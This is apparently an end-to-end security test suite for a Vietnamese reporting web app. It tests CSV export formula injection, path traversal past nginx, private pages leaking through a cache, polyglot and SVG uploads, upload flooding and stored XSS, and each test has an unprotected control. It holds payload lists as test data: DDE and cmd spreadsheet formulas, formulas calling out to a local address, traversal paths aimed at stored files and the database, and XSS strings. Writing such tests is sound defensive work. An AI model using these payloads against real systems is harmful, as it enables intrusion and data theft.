"""Attacks through real programs: spreadsheet, nginx, browser, broken uploads (rows A3, A8, F5, F7, I1, I2).

Each test that shows a protection has a control beside it: the same without the protection, where the damage is seen.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import subprocess
import time
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest

from tests.support.entry import ROW, form_of
from tests.support.nginx import Nginx
from tests.support.uploads import PDF
from tests.support.web import MULTIPART, PASSWORD, Answer, Person, multipart, pairs

pytestmark = pytest.mark.e2e

YEAR_2020 = "/lam-viec/lang-son-trung-uong/2020/"
YEAR = "/lam-viec/lang-son-trung-uong/2021/"
ADD = YEAR + "hoat-dong/them/"
PUBLIC = "/cum/lang-son-trung-uong/2020/"
MEGABYTE = 1024 * 1024


def add(person: Person, *rows: dict[str, Any], files: Any = (), **head: Any) -> Answer:
    """Fill the entry form and send it."""
    fields = form_of(*(rows or (ROW,)), **{"when": "5/3/2021", **head})
    return person.post(ADD, fields, files=files)


def counted(live: Any) -> dict[str, int]:
    """How many rows there are of what an upload may leave."""
    tables = ("movements_activity", "movements_evidence", "core_stagedupload", "core_storedfile")
    return {table: live.query(f"select count(*) from {table}")[0][0] for table in tables}


# -- I2: formulas in the export ------------------------------------------------------------------
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=SUM(1;2)*3", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0",
    "=DDE(\"soffice\";\"/etc/passwd\";\"a\")", '=HYPERLINK("http://127.0.0.1:9/?x="&A1;"bấm vào đây")',
    '=WEBSERVICE("http://127.0.0.1:9/")', "＝1+1", "=1+1;=2+2", '"=1+1"', "'=1+1",
]  # fmt: skip
READ_AS = "CSV:44,34,76,1,,0,false,true,true"  # commas, quotes, UTF-8; numbers and dates are looked for
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def opened(content: bytes, folder: Path) -> tuple[list[str], list[str]]:
    """Texts of all cells, and all formulas, of a CSV file that LibreOffice opened."""
    folder.mkdir()
    (folder / "x.csv").write_bytes(content)
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--convert-to", "xlsx",
         f"--infilter={READ_AS}", "--outdir", str(folder), str(folder / "x.csv")],
        capture_output=True, text=True, timeout=180, check=False,
    )  # fmt: skip
    assert (folder / "x.xlsx").exists(), done.stdout + done.stderr
    with zipfile.ZipFile(folder / "x.xlsx") as book:
        strings = [
            "".join(piece.text or "" for piece in text.iter(f"{SHEET}t"))
            for text in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).iter(f"{SHEET}si")
        ]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        links = [name for name in book.namelist() if "externalLink" in name]
    texts, formulas = [], links
    for cell in sheet.iter(f"{SHEET}c"):
        formulas += [cell.get("r", "") + (found.text or "") for found in cell.iter(f"{SHEET}f")]
        value = cell.findtext(f"{SHEET}v")
        if cell.get("t") == "s" and value is not None:
            texts.append(strings[int(value)])
    return texts, formulas


@pytest.mark.journey
def test_i2_a_spreadsheet_computes_nothing_out_of_the_export(make_live: Any, tmp_path: Path) -> None:
    live = make_live(workers=1)
    clerk = Person(live.url, "baohiem")
    for number, attack in enumerate(FORMULAS):
        row = ROW | {"description": attack, "beneficiary": f"{attack}&{number}", "outside": attack}
        answer = add(clerk, row, title=attack, place=attack, then="submit")
        assert answer.status == 302, answer.text[:3000]
    answer = Person(live.url, "quanlythitruong").get(YEAR + "hoat-dong/xuat.csv")
    assert answer.status == 200
    texts, formulas = opened(answer.body, tmp_path / "calc")
    assert formulas == []
    bare = [text.removeprefix("'") for text in texts]
    for number, attack in enumerate(FORMULAS):
        kept = {attack, attack.removeprefix("'")}
        assert sum(text in kept for text in [*texts, *bare]) >= 3, attack
        receivers = {f"{text}&{number}" for text in kept}
        assert receivers & {*texts, *bare}, attack


def test_i2_control_a_plain_csv_writer_makes_formulas(tmp_path: Path) -> None:
    plain = io.StringIO()
    csv.writer(plain, quoting=csv.QUOTE_ALL).writerows([[attack] for attack in ["Hoạt động", *FORMULAS]])
    _texts, formulas = opened(plain.getvalue().encode("utf-8-sig"), tmp_path / "calc")
    assert len(formulas) >= 5
    assert any("HYPERLINK" in formula for formula in formulas)


# -- A3: stored files ----------------------------------------------------------------------------
SECRET = PDF + b"% chi don vi minh doc\n"
CLIMBS = [
    "/files/{p}", "//files/{p}", "/static/../files/{p}", "/static//..//files/{p}", "/static/%2e%2e/files/{p}",
    "/static/%2E%2E%2Ffiles/{p}", "/static/..%2ffiles/{p}", "/static/%252e%252e/files/{p}", "/static../files/{p}",
    "/static%2f../files/{p}", "/static/..;/files/{p}", "/static/..%5cfiles/{p}", "/static/img/../../files/{p}",
    "/static/./.././files/{p}", "/STATIC/../files/{p}", "/%66iles/{p}", "/files/../files/{p}", "/media/{p}",
    "/var/files/{p}", "/static/files/{p}", "/../files/{p}", "/cum/../files/{p}", "/en/../static/../files/{p}",
    "/static/../db.sqlite3", "/static../db.sqlite3", "/db.sqlite3", "/static/%2e%2e/db.sqlite3",
]  # fmt: skip


@pytest.fixture
def make_nginx(tmp_path: Path) -> Iterator[Callable[..., Nginx]]:
    """Function that starts nginx with the sample in front of a server."""
    started: list[Nginx] = []

    def make(live: Any, **options: Any) -> Nginx:
        started.append(Nginx(live, tmp_path / f"nginx-{len(started)}", **options))
        return started[-1]

    yield make
    for server in started:
        server.stop()


def hidden_file(live: Any, owner: Person) -> tuple[str, str]:
    """A file beside a draft: its page, and where its bytes lie under DATA_DIR/files."""
    answer = add(owner, title="Bản nháp riêng", files=[("files", "rieng.pdf", SECRET)])
    assert answer.status == 302, answer.text[:3000]
    digest = hashlib.sha256(SECRET).hexdigest()
    place = f"{digest[:2]}/{digest[2:4]}/{digest}"
    assert (live.folder / "files" / place).read_bytes() == SECRET
    pk = live.query("select max(id) from movements_evidence")[0][0]
    return f"{YEAR}minh-chung/{pk}/", place


def gives_nothing(answer: Answer) -> None:
    assert answer.status in (301, 302, 400, 403, 404), (answer.path, answer.status)
    assert SECRET not in answer.body, answer.path
    assert b"SQLite format" not in answer.body, answer.path


@pytest.mark.parametrize("behind_nginx", [False, True], ids=["gunicorn", "nginx"])
def test_a3_bytes_leave_only_by_the_right_to_them(live: Any, make_nginx: Any, behind_nginx: bool) -> None:
    url = make_nginx(live).url if behind_nginx else live.url
    owner = Person(url, "baohiem")
    page, place = hidden_file(live, owner)
    given = owner.get(page)
    assert (given.status, given.body) == (200, SECRET)
    assert given.headers["Content-Disposition"].startswith("attachment")
    others = {name: Person(url, name) for name in ("thue", "quanlythitruong", "ngoaicum")}
    for name, person in others.items():
        assert person.get(page).status == 404, name
        gives_nothing(person.get(page))
    anonymous = Person(url)
    assert anonymous.get(page).status == 302
    gives_nothing(anonymous.get(page, follow=0))
    assert SECRET not in anonymous.get(page, follow=3).body
    for climb in CLIMBS:
        for person in (anonymous, others["ngoaicum"], owner):
            gives_nothing(person.get(climb.format(p=place)))
        assert SECRET not in anonymous.get(climb.format(p=place), follow=3).body
    for odd in ("/cum/.." + page, page.replace("minh-chung", "%6dinh-chung"), "/" + page, page.rstrip("/")):
        gives_nothing(others["thue"].get(odd))


def test_a3_nginx_serves_static_files_itself_and_keeps_them_long(live: Any, make_nginx: Any) -> None:
    reader = Person(make_nginx(live).url)
    home = reader.get("/").text
    addresses = set(re.findall(r'(/static/[^"]+\.(?:css|js))"', home))
    assert addresses
    live.terminate()
    for address in addresses:
        answer = reader.get(address)
        assert answer.status == 200, address
        assert "immutable" in answer.headers["Cache-Control"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert reader.get("/").status in (502, 504)


def test_a3_control_one_slash_less_and_the_folder_is_open(live: Any, make_nginx: Any) -> None:
    _page, place = hidden_file(live, Person(live.url, "baohiem"))
    careless = make_nginx(live, change=("location /static/ {", "location /static {"))
    assert Person(careless.url).get(f"/static../files/{place}").body == SECRET


# -- A8: a cache between -------------------------------------------------------------------------
CACHE = """proxy_cache_path {folder} keys_zone=pages:1m;
    proxy_cache pages;
    add_header X-Cache $upstream_cache_status always;"""
CARELESS = "\n    proxy_ignore_headers Cache-Control Expires Set-Cookie Vary;\n    proxy_cache_valid 200 1m;"
PRIVATE = [YEAR, YEAR + "hoat-dong/", YEAR + "hoat-dong/them/", YEAR + "hoi-nghi/", "/tai-khoan/mat-khau/"]


def test_a8_a_private_page_is_never_another_persons(live: Any, make_nginx: Any, tmp_path: Path) -> None:
    url = make_nginx(live, more=CACHE.format(folder=tmp_path / "pages")).url
    clerk, stranger, anonymous = Person(url, "baohiem"), Person(url, "ngoaicum"), Person(url)
    page, _place = hidden_file(live, clerk)
    for path in [*PRIVATE, page]:
        first = clerk.get(path)
        assert first.status == 200, path
        assert "no-store" in first.headers["Cache-Control"], path
        again, others, nobodys = clerk.get(path), stranger.get(path), anonymous.get(path)
        for answer in (again, others, nobodys):
            assert answer.headers["X-Cache"] in ("MISS", "BYPASS", "EXPIRED"), path
        assert nobodys.status == 302, path
        if path.startswith(YEAR):
            assert others.status == 404, path
        assert SECRET not in others.body + nobodys.body
    assert "Bản nháp riêng" in clerk.get(YEAR + "hoat-dong/").text


def test_a8_the_public_summary_is_kept_and_the_same_for_all(
    live: Any, make_nginx: Any, tmp_path: Path
) -> None:
    url = make_nginx(live, more=CACHE.format(folder=tmp_path / "pages")).url
    people = [Person(url, "quanlythitruong"), Person(url, "ngoaicum"), Person(url), Person(url)]
    for path in (PUBLIC, "/en" + PUBLIC, PUBLIC + "du-lieu.json", "/"):
        answers = [person.get(path) for person in people]
        assert [answer.status for answer in answers] == [200] * 4, path
        assert [answer.headers["X-Cache"] for answer in answers] == ["MISS", "HIT", "HIT", "HIT"], path
        assert len({answer.body for answer in answers}) == 1, path
        assert all("Set-Cookie" not in answer.headers for answer in answers), path


def test_a8_control_a_cache_that_ignores_no_store_leaks(live: Any, make_nginx: Any, tmp_path: Path) -> None:
    url = make_nginx(live, more=CACHE.format(folder=tmp_path / "pages") + CARELESS).url
    clerk = Person(url, "baohiem")
    page, _place = hidden_file(live, clerk)
    assert clerk.get(page).body == SECRET
    assert Person(url).get(page).body == SECRET


# -- F5: a file that is two things ---------------------------------------------------------------
SCRIPT = b"<html><body><script>fetch('/da-chay'); alert('da chay')</script><img src=x onerror=alert(2)></body></html>"
POLYGLOT = PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + SCRIPT + b"\n")
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"


def watched(page: Any) -> list[str]:
    """What scripts of an attack do on a page, as it happens."""
    ran: list[str] = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: ran.append(request.url) if "/da-chay" in request.url else None)
    return ran


def test_f5_a_polyglot_downloads_and_no_script_of_it_runs(visit: Any) -> None:
    clerk = visit("baohiem", PASSWORD)
    page, ran = clerk.page, watched(clerk.page)
    page.goto(ADD)
    page.locator("#id_title").fill("Tệp hai mặt")
    page.locator("#id_when").fill("5/3")
    page.locator("#id_khoan-0-description").fill("Tiền")
    page.locator("#id_khoan-0-value").fill("1 tr")
    page.locator("input[type=file][name=files]").set_input_files(
        [{"name": "bao-cao.pdf", "mimeType": "text/html", "buffer": POLYGLOT}]
    )
    page.get_by_role("button", name="Lưu và gửi").click()
    page.wait_for_url(re.compile(r"/hoat-dong/\d+/$"))
    link = page.get_by_role("link", name=re.compile("bao-cao.pdf")).first
    address = link.get_attribute("href")
    with page.expect_download() as download:
        page.evaluate("address => { location.href = address }", address)
    assert Path(download.value.path()).read_bytes() == POLYGLOT
    assert download.value.suggested_filename == "bao-cao.pdf"
    with page.expect_download():
        link.click()
    assert page.evaluate("document.title").startswith("Tệp hai mặt")
    assert ran == []


def test_f5_an_svg_is_refused_with_a_sentence(visit: Any, live: Any) -> None:
    clerk = visit("baohiem", PASSWORD)
    page, ran, before = clerk.page, watched(clerk.page), counted(live)
    page.goto(ADD)
    page.locator("#id_title").fill("Hình vẽ")
    page.locator("#id_when").fill("5/3")
    page.locator("input[type=file][name=files]").set_input_files(
        [{"name": "hinh.png", "mimeType": "image/png", "buffer": SVG}]
    )
    page.get_by_role("button", name="Lưu nháp").click()
    page.get_by_text("Nội dung tệp “hinh.png” không phải loại được nhận.").first.wait_for()
    assert page.locator("#id_title").input_value() == "Hình vẽ"
    assert counted(live) == before
    assert ran == []


def test_f5_control_sent_as_its_uploader_claims_it_runs(browser: Any) -> None:
    class Trusting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(POLYGLOT)

        def log_message(self, *_words: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Trusting) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        page = browser.new_page()
        ran = watched(page)
        page.goto(f"http://127.0.0.1:{server.server_port}/minh-chung/1/")
        page.wait_for_load_state("networkidle")
        page.close()
        server.shutdown()
    assert "da chay" in ran


# -- F7: too much, too many, cut off -------------------------------------------------------------
def peak(live: Any) -> dict[int, float]:
    """The most memory each worker has held so far, in MB."""
    found = {}
    for pid in live.worker_pids():
        status = Path(f"/proc/{pid}/status").read_text()
        found[pid] = int(re.findall(r"VmHWM:\s+(\d+)", status)[0]) / 1024
    return found


def entry_body(token: str, *files: tuple[str, str, bytes], more: int = 0) -> bytes:
    fields = form_of(ROW, when="5/3/2021", title="Cắt ngang", then="submit")
    fields |= {f"thua-{number}": "x" for number in range(more)}
    return multipart([*pairs(fields), ("csrfmiddlewaretoken", token)], files)


@pytest.fixture
def uploading(make_live: Any, tmp_path: Path) -> Any:
    """A server, a clerk at it, the token of her form, and the folder where uploads are gathered."""
    gathering = tmp_path / "gathering"
    gathering.mkdir()
    live = make_live(workers=1, threads=2, TMPDIR=str(gathering))
    clerk = Person(live.url, "baohiem")
    assert add(clerk, title="Bình thường", files=[("files", "a.pdf", SECRET)]).status == 302
    return live, clerk, clerk.token(ADD), gathering


def leaves_nothing(live: Any, before: dict[str, int], gathering: Path) -> None:
    assert counted(live) == before
    stored = [path for path in (live.folder / "files").rglob("*") if path.is_file()]
    assert len(stored) == before["core_storedfile"]
    assert not list(gathering.rglob("*.upload*"))
    assert "Internal Server Error" not in live.log_text()


def test_f7_thirty_megabytes_and_ten_thousand_parts_are_refused_quickly(uploading: Any) -> None:
    live, clerk, token, gathering = uploading
    before, memory = counted(live), peak(live)
    large = [("files", "video.pdf", PDF + b"x" * (30 * MEGABYTE))]
    many_files = [("files", f"{n}.pdf", PDF) for n in range(10_000)]
    plain = "&".join(f"thua-{n}=x" for n in range(5000)).encode()
    form = "application/x-www-form-urlencoded"
    for name, body, kind, sentence in (
        ("30 MB", entry_body(token, *large), MULTIPART, "lớn hơn mức 20 MB"),
        ("10,000 files", entry_body(token, *many_files), MULTIPART, ""),
        ("10,000 fields in parts", entry_body(token, more=10_000), MULTIPART, ""),
        ("5,000 fields", plain, form, ""),
        ("6 MB of text", b"story=" + b"x" * (6 * MEGABYTE), form, ""),
    ):
        started = time.monotonic()
        answer = clerk.send("POST", ADD, body, {"Content-Type": kind, "X-CSRFToken": token})
        assert 400 <= answer.status < 500, (name, answer.status)
        assert time.monotonic() - started < 5, name
        assert sentence in answer.text, name
        assert "<h1" in answer.text, name
    leaves_nothing(live, before, gathering)
    assert peak(live).keys() == memory.keys()
    assert all(now - memory[pid] < 80 for pid, now in peak(live).items()), (memory, peak(live))


@pytest.mark.parametrize("abrupt", [True, False], ids=["broken off", "length lies"])
def test_f7_an_upload_that_stops_half_way_leaves_no_row(uploading: Any, abrupt: bool) -> None:
    live, clerk, token, gathering = uploading
    before = counted(live)
    body = entry_body(token, ("files", "lon.pdf", PDF + b"y" * (3 * MEGABYTE)))
    for sent in (len(body) // 2, len(body) - 40, 300, len(body)):
        promised = len(body) + (1000 if sent == len(body) else 0)
        answer = clerk.broken(ADD, body[:sent], promised, token=token, abrupt=abrupt)
        status = answer.split(b" ", 2)[1][:1] if answer else b""
        assert status in (b"", b"4"), answer[:300]
    time.sleep(1 if abrupt else 0)  # the server may not yet have begun to read
    deadline = time.monotonic() + 10
    while list(gathering.rglob("*.upload*")) and time.monotonic() < deadline:
        time.sleep(0.1)  # nobody waits for the answer to an upload that was broken off
    assert clerk.get(YEAR).status == 200
    leaves_nothing(live, before, gathering)


def test_f7_control_the_same_upload_whole_is_kept(uploading: Any) -> None:
    live, clerk, token, _gathering = uploading
    before = counted(live)
    body = entry_body(token, ("files", "lon.pdf", PDF + b"y" * (3 * MEGABYTE)))
    answer = clerk.send("POST", ADD, body, {"Content-Type": MULTIPART, "X-CSRFToken": token})
    assert answer.status == 302
    assert counted(live)["movements_evidence"] == before["movements_evidence"] + 1


def test_f7_nginx_lets_the_application_say_it_and_stops_what_is_far_too_large(
    uploading: Any, make_nginx: Any
) -> None:
    live, clerk, token, _gathering = uploading
    clerk.url = make_nginx(live).url
    before = counted(live)
    body = entry_body(token, ("files", "video.pdf", PDF + b"x" * (30 * MEGABYTE)))
    answer = clerk.send("POST", ADD, body, {"Content-Type": MULTIPART, "X-CSRFToken": token})
    assert answer.status == 422
    assert "lớn hơn mức 20 MB" in answer.text
    refused = clerk.broken(ADD, b"", 500 * MEGABYTE, token=token, abrupt=False)
    assert refused.startswith(b"HTTP/1.1 413")
    assert counted(live) == before


# -- I1: scripts in everything that is typed -----------------------------------------------------
XSS = [
    "\"'><img src=x onerror=alert(1)>", "</title></textarea></script><script>alert(2)</script>",
    "<svg/onload=alert(3)>", "\" autofocus onfocus=alert(4) x=\"", "' autofocus onfocus='alert(5)",
    "<details open ontoggle=alert(6)>", "<a href=javascript:alert(7) id=bam>bấm</a>",
    "<div hx-get=/da-chay hx-trigger=load hx-on:load=alert(8)>", "<iframe srcdoc='<script>alert(9)</script>'>",
    "javascript:alert(10)", "--><!--><script>alert(11)</script>", "<style>@import'/da-chay'</style>",
    "&lt;script&gt;alert(12)&lt;/script&gt;", "<base href=//127.0.0.1:9/>", "<form action=/da-chay><button>x",
]  # fmt: skip
# Written straight into the tables: what no form of these pages offers, so that every text of the year is an attack.
EVERYWHERE = """
import itertools
from members.models import *; from movements.models import *; from publishing.models import YearText
from conference.models import *; from scoring.models import *
attacks, reached = itertools.cycle({attacks!r}), set()
for model, names in (
    (Agency, ["name", "short_name"]), (Movement, ["title", "slogan", "launched_by", "decision_number", "story"]),
    (Activity, ["title", "place", "story", "result"]), (Contribution, ["description", "purpose", "unit"]),
    (Contributor, ["outside_name"]), (Beneficiary, ["name"]), (YearText, ["text"]), (Person, ["full_name", "title"]),
    (Directive, ["number", "title", "summary", "issuer"]), (Cluster, ["name"]),
):
    have = {{field.name: field for field in model._meta.fields}}
    for row in model._default_manager.all():
        new = {{}}
        for name in names:
            if name in have and getattr(row, name):
                text = f"{{row.pk}} " + next(attacks)
                new[name] = text[:have[name].max_length or 4000]
        model._default_manager.filter(pk=row.pk).update(**new)
        reached |= {{(model.__name__, name) for name in new}}
print(len(reached))
"""
MOST_PAGES, MOST_OF_A_KIND = 400, 2
WATCH = """
window.broke = [];
document.addEventListener("securitypolicyviolation", event => {
  window.broke.push(event.violatedDirective + " " + event.blockedURI);
});
"""


def attack_by_the_forms(live: Any) -> None:
    """Activities, a movement, a file name, a reason for returning: typed in by people."""
    clerk, chair = Person(live.url, "baohiem"), Person(live.url, "quanlythitruong")
    for number, attack in enumerate(XSS):
        row = ROW | {"description": attack, "beneficiary": attack, "outside": attack}
        head = {"title": attack, "place": attack, "story": attack, "result": attack}
        file = ("files", f"{attack}.pdf", PDF + str(number).encode())
        answer = add(clerk, row, **head, then="submit", files=[file])
        assert answer.status == 302, answer.text[:3000]
        page = answer.headers["Location"]
        if number % 2:
            version = live.query("select max(version) from movements_activity where title = %s", (attack,))
            fields = {"action": "return", "reason": attack, "version": str(version[0][0])}
            answer = chair.post(page + "trang-thai/", fields, page)
            assert answer.status == 302, answer.text[:3000]
    page = YEAR + "phong-trao/them/"
    known = {"title": XSS[0], "slogan": XSS[1], "launched_by": XSS[2], "story": XSS[3], "level": "cluster"}
    answer = chair.post(page, known | {"kind": "regular", "submit_key": "k" * 30})
    assert answer.status == 302, answer.text[:3000]


def publish_again(live: Any) -> None:
    """The published summary of 2020 with every attack in it."""
    chair, page = Person(live.url, "quanlythitruong"), YEAR_2020 + "tong-ket/cong-bo/"
    text = chair.get(page).text
    expected = re.search(r'name="expected"[^>]*value="(\w+)"', text) or re.search(
        r'value="(\w{64})"[^>]*name="expected"', text
    )
    assert expected, text[:3000]
    answer = chair.post(page, {"expected": expected[1], "word": "CÔNG BỐ", "reason": XSS[1]})
    assert answer.status == 302, re.sub(r"\s+", " ", answer.text)[:6000]


DOWNLOADS = re.compile(
    r"\.(csv|xlsx|docx|png|ics)(\?|$)|minh-chung/\d|du-lieu\.json|/excel/|/bien-ban/|/tep/"
)


def kind_of(path: str) -> str:
    return re.sub(r"\d+", "N", urlsplit(path).path)


def crawl(page: Any, start: list[str]) -> dict[str, int]:
    """Every page that can be reached, some of each kind; how many of each were seen."""
    waiting, met, kinds = list(start), set(start), dict[str, int]()
    while waiting and sum(kinds.values()) < MOST_PAGES:
        path = waiting.pop(0)
        kind = kind_of(path)
        if kinds.get(kind, 0) >= MOST_OF_A_KIND:
            continue
        kinds[kind] = kinds.get(kind, 0) + 1
        answer = page.goto(path)
        assert answer.status in (200, 403), (path, answer.status)
        assert page.evaluate("window.broke") == [], path
        assert page.locator("#bam, [onerror], [onload], [onfocus], [ontoggle], iframe, base").count() == 0, (
            path
        )
        for link in page.eval_on_selector_all(
            "a[href]", "all => all.map(a => a.protocol + ' ' + a.pathname + a.search)"
        ):
            scheme, target = link.split(" ", 1)
            assert scheme in ("http:", "mailto:"), (path, link)
            wanted = re.match(r"/(en/)?(lam-viec/|cum/|tai-khoan/|$)", target)
            if wanted and not DOWNLOADS.search(target) and target not in met:
                met.add(target)
                waiting.append(target)
    return kinds


def test_i1_no_script_runs_on_any_page_out_of_what_is_typed(visit: Any, live: Any) -> None:
    attack_by_the_forms(live)
    assert int(live.shell(EVERYWHERE.format(attacks=XSS))) >= 15
    publish_again(live)
    chair = visit("quanlythitruong", PASSWORD)
    chair.context.add_init_script(WATCH)
    ran = watched(chair.page)
    working = [
        "", "buoc/", "don-vi/", "phong-trao/", "phong-trao/them/", "hoat-dong/", "hoat-dong/them/",
        "xep-hang/", "xep-hang/ghi/", "hoi-nghi/", "hoi-nghi/ghi/", "tong-ket/", "tong-ket/noi-dung/",
        "tong-ket/xem-truoc/", "tong-ket/cong-bo/", "hoat-dong/?q=alert", "hoat-dong/?q=%3Csvg/onload=alert(1)%3E",
    ]  # fmt: skip
    years = [year + path for path in working for year in (YEAR, YEAR_2020)]
    kinds = crawl(chair.page, [*years, "/", PUBLIC, "/en" + PUBLIC, PUBLIC + "v/1/", PUBLIC + "v/2/"])
    assert ran == []
    assert sum(kinds.values()) < MOST_PAGES, "pages were left out"
    for kind in ("don-vi/N/", "phong-trao/N/", "phong-trao/N/sua/", "hoat-dong/N/", "hoat-dong/N/sua/"):
        assert kinds.get(f"/lam-viec/lang-son-trung-uong/N/{kind}"), (kind, kinds)
    chair.page.goto(PUBLIC)
    assert "onerror=alert(1)" in chair.page.locator("main").inner_text()


def test_i1_control_unescaped_the_same_texts_run(browser: Any) -> None:
    page = browser.new_page()
    ran = watched(page)
    for attack in XSS:
        page.set_content(f'<input value="{attack}"><textarea>{attack}</textarea>{attack}')
        page.wait_for_timeout(60)
    page.close()
    assert len(set(ran)) >= 6, ran
